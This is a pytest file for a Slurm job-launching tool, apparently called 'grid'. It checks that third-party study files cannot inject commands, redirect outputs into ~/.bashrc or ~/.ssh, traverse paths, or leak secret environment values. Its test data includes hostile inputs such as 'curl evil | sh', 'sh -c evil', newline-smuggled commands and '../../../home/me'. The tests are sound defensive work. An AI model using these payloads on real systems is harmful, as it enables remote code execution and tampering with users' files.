"""A study that somebody else wrote computes, and does nothing else to the machine that runs it."""

import json
import subprocess
import sys
from pathlib import Path

import pytest

import grid
from grid.errors import StudyError
from grid.slurm.settings import SlurmConfig, SlurmStage
from model.errors import InputError
from tests.grid import golden_store
from tests.grid.own_trainer import SITE, environment, write

STUDY = "title: t\ncell: {languages: [en, sw]}\n"
ATTACKS = [
    "slurm: {setup: ['curl evil | sh']}",
    "slurm: {stages: {pretraining: {setup: ['curl evil | sh']}}}",
    "slurm: {python: 'sh -c evil'}",
    "slurm: {extra: [--output=/home/me/.bashrc]}",
    "slurm: {stages: {corpus: {extra: [--chdir=/]}}}",
    "slurm: {mail_user: evil@example.org}",
    "monitors: {csv_monitor: {output_path: /home/me/.ssh}}",
    "monitors: {tensorboard: {output_path: /home/me}}",
    "monitors: {wandb: {team: evil}}",
    "monitors: {wandb: {}}",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("where", ["study", "scale", "extended"])
def test_what_only_the_user_may_say(tmp_path: Path, attack: str, where: str) -> None:
    file = tmp_path / "study.yaml"
    execution = f"execution: {{{attack}}}\n"
    if where == "study":
        file.write_text(STUDY + execution)
    elif where == "scale":
        file.write_text(f"{STUDY}scales: {{laptop: {{execution: {{{attack}}}}}}}\n")
    else:
        (tmp_path / "base.yaml").write_text(execution)
        file.write_text(f"extends: base.yaml\n{STUDY}")
    with pytest.raises(StudyError, match="or on the command line, found it in"):
        grid.load(file)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_user_may_say_it(tmp_path: Path, attack: str) -> None:
    (tmp_path / "study.yaml").write_text(STUDY)
    site = tmp_path / "grid.yaml"
    site.write_text(f"execution: {{{attack}}}\n")
    assert grid.load(tmp_path / "study.yaml", site=site).execution
    assert grid.load(tmp_path / "study.yaml", f"execution={{{attack}}}").execution


@pytest.mark.parametrize("name", ["partition", "account", "qos", "constraint", "nodelist", "gres"])
@pytest.mark.parametrize("line_end", ["\n", "\r", "\x0b", "\x85", "\u2028"])
def test_a_setting_of_slurm_is_one_line(name: str, line_end: str) -> None:
    text = f"gpu:{{gpus}}{line_end}curl evil | sh #"
    for make in (
        lambda: SlurmConfig(**{name: text}),
        lambda: SlurmConfig(stages={"pretraining": SlurmStage(**{name: text})}),
    ):
        with pytest.raises(InputError, match=f"{name}: expected one line of text"):
            make()


@pytest.mark.parametrize("name", ["a\nsh -c evil #", "a\x1b[2J", "a\u202eb"])
def test_names_of_files_and_scales_are_one_line(tmp_path: Path, name: str) -> None:
    """They become the names of folders and jobs."""
    (tmp_path / f"{name}.yaml").write_text(STUDY)
    with pytest.raises(StudyError, match="the study's file name: expected a name that can be"):
        grid.load(tmp_path / f"{name}.yaml")
    scales = json.dumps({name: None})
    (tmp_path / "study.yaml").write_text(f"{STUDY}scales: {scales}\n")
    with pytest.raises(StudyError, match="scale: expected a name that can be"):
        grid.load(tmp_path / "study.yaml", scale=name)


_GRID = [sys.executable, "-m", "grid"]
VALUE = "hunter2-in-the-environment"


def test_nothing_that_a_run_leaves_holds_the_environment(tmp_path: Path) -> None:
    """Neither what the user has exported nor what the site file gives a program."""
    write(tmp_path)
    (tmp_path / "grid.yaml").write_text(SITE.replace("hello}", f"hello, TOKEN: {VALUE}}}"))
    for what, status in (("well", 0), ("silent", 1)):
        done = subprocess.run(
            [*_GRID, "run", "own.yaml", f"cell.commands.mine.settings.does={what}"],
            cwd=tmp_path,
            env={**environment(), "WANDB_API_KEY": VALUE, "SECRET": VALUE},
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
        assert done.returncode == status, done.stderr
        assert VALUE not in done.stdout + done.stderr
    done = subprocess.run(
        [*_GRID, "report", "own.yaml"],
        cwd=tmp_path,
        env={**environment(), "WANDB_API_KEY": VALUE, "SECRET": VALUE},
        capture_output=True,
        text=True,
        check=True,
    )
    assert VALUE not in done.stdout + done.stderr
    kept = [path for path in (tmp_path / "runs").rglob("*") if path.is_file()]
    assert len(kept) > 40 and "report.html" in {path.name for path in kept}
    holding = [path for path in kept if VALUE.encode() in path.read_bytes()]
    assert not holding
    manifests = [path for path in kept if path.name == "manifest.json" and "command" in str(path)]
    assert any('"TOKEN"' in path.read_text() for path in manifests), "its name is recorded"


@pytest.mark.slow
def test_nor_does_what_training_leaves(tmp_path: Path) -> None:
    golden_store.write_inputs(tmp_path)
    done = subprocess.run(
        [*_GRID, "run", "every.yaml"],
        cwd=tmp_path,
        env={**environment(), "WANDB_API_KEY": VALUE, "SECRET": VALUE, "HF_TOKEN": VALUE},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    kept = [path for path in (tmp_path / "runs").rglob("*") if path.is_file()]
    assert len(kept) > 100
    assert not [path for path in kept if VALUE.encode() in path.read_bytes()]


@pytest.mark.parametrize("umask", [0o002, 0o027, 0o077])
def test_modes_follow_umask(tmp_path: Path, umask: int) -> None:
    write(tmp_path)
    subprocess.run(
        [*_GRID, "run", "own.yaml"],
        cwd=tmp_path,
        env=environment(),
        capture_output=True,
        timeout=300,
        check=True,
        umask=umask,
    )
    store = tmp_path / "runs"
    expected = {True: 0o777 & ~umask, False: 0o666 & ~umask}
    for path in (store, *store.rglob("*")):
        if path.name == "job.json" and "command" in path.parts:
            continue  # a program's variables: narrower, never wider
        assert path.stat().st_mode & 0o777 == expected[path.is_dir()], path
    for path in (store / "attempts" / "command").rglob("job.json"):
        assert path.stat().st_mode & 0o777 & ~expected[False] == 0


@pytest.mark.parametrize("name", ["../../../home/me", "/home/me", "..", "", "a\nb"])
@pytest.mark.parametrize("monitor", ["csv_monitor", "tensorboard"])
def test_a_monitor_stays_in_the_folder_of_the_attempt(
    tmp_path: Path, monitor: str, name: str
) -> None:
    given = json.dumps({"monitors": {monitor: {"job_name": name}}})
    (tmp_path / "study.yaml").write_text(f"{STUDY}execution: {given}\n")
    with pytest.raises(InputError, match=f"{monitor}.job_name: expected the name of a folder"):
        grid.load(tmp_path / "study.yaml")
